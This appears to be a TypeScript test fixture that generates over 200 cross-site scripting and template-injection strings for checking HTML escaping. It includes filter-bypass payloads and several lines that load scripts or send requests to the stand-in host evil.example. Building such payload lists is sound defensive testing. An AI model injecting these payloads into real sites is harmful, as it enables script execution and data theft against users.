/** Texts that would run as script, or be parsed as markup, wherever a page or an image fails to escape them. */

const SCRIPTS = ['alert(1)', 'top.pwned=1', 'document.title="pwned"', 'fetch("//evil.example")']
const TAGS = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'iframe src=x',
  'details open',
  'input autofocus',
  'marquee',
  'object data=x',
]
const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart', 'onmouseover']
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  ' javascript:',
  '\u0001javascript:',
  'vbscript:',
  'data:text/html,',
]
const BREAKS = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '</script>',
  '</style>',
  '</title>',
  '</textarea>',
  '</noscript>',
  '-->',
  ']]>',
  '*/',
  '\\"',
  '{{',
  '${',
]

const FAMOUS = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<script\u0000>alert(1)</script>',
  '<<script>alert(1);//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<a href="javascript:alert(1)">x</a>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>*{background:url(//evil.example)}</style>',
  '<form action=//evil.example><button>x',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '{{constructor.constructor("alert(1)")()}}',
  '$' + '{alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '[link](javascript:alert(1))',
  '![x](x "onerror=alert(1)")',
  '\u2028alert(1)\u2029',
  '\u202e<script>alert(1)</script>',
  '＜script＞alert(1)＜/script＞',
  '‮⁦onerror=alert(1)⁩',
]

const product = <A, B, C>(a: readonly A[], b: readonly B[], make: (a: A, b: B) => C): C[] =>
  a.flatMap((one) => b.map((other) => make(one, other)))

/** More than 200, all different. */
export const INJECTIONS: readonly string[] = [
  ...new Set([
    ...FAMOUS,
    ...product(TAGS, EVENTS, (tag, event) => `<${tag} ${event}=alert(1)>`),
    ...product(BREAKS, SCRIPTS, (end, script) => `${end}<script>${script}</script>`),
    ...product(BREAKS, ['onfocus', 'onerror'], (end, event) => `${end} ${event}=alert(1) x=`),
    ...product(SCHEMES, SCRIPTS, (scheme, script) => `${scheme}${script}`),
  ]),
]
